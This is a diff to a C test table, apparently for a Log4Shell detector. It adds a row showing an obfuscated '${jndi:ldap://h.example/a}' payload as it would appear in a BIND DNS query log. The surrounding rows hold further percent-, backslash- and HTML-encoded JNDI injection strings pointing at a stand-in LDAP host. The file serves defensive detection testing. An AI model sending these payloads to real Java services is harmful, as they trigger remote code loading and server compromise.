@@ -188,6 +188,9 @@ static void mixed_orders(void **state)
         ROW("\\u00%32%34{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
         ROW("\\u%7B24%7D{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
         ROW("&doll%61r;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html"),
+        /* as BIND logs names */
+        ROW("query: \\${jndi:ldap://h\\.example/a}.x.example IN A +", "exploit", .chain = "backslash", .fires = FIRES_ALL,
+            .indicators = "ldap://h.example:389/a ldap://h\\.example:389/a"),
         ROW("%24\\u007bjndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
         ROW("&#36;%7Bjndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html"),
         ROW("${jndi:ldap&#58;//h.example/a%7D", EXPLOIT, .chain = "percent html"),
